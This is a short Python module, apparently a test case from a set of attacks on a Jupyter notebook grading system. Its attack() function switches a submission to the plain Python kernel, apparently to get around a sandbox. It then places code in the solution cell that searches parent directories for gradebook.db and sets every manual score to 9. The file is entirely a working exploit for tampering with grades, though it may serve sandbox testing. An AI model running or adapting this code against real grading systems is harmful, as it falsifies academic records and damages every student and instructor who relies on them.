"""The notebook asks for the plain kernel, without walls, and its code for the gradebook."""


ALONE = True  # it changes the scores of everybody
CODE = """
import glob, os, sqlite3
for folder in [os.getcwd(), *(os.path.dirname(os.getcwd() + "/.." * n) for n in range(1, 6))]:
    for path in glob.glob(folder + "/gradebook.db"):
        c = sqlite3.connect(path)
        c.execute("UPDATE grade SET manual_score = 9")
        c.commit()
"""


def attack(raw):
    raw["metadata"]["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    stub = next(c for c in raw["cells"] if c["metadata"].get("nbgrader", {}).get("solution"))
    stub["source"] = CODE
